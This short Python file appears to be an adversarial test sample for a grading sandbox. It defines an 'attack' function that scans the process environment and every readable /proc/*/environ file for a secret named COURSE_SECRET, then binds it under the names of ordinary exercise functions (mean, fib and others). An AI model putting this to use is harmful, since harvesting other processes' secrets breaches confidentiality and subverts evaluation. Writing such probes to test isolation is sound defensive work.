import glob
import os

from attacker import wins_if


def attack(value):
    found = [repr(os.environ).encode()]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as handle:
                found.append(handle.read())
        except OSError:
            pass
    return any(b"COURSE_SECRET" in text for text in found)


mean = is_palindrome = word_count = fib = wins_if(attack)
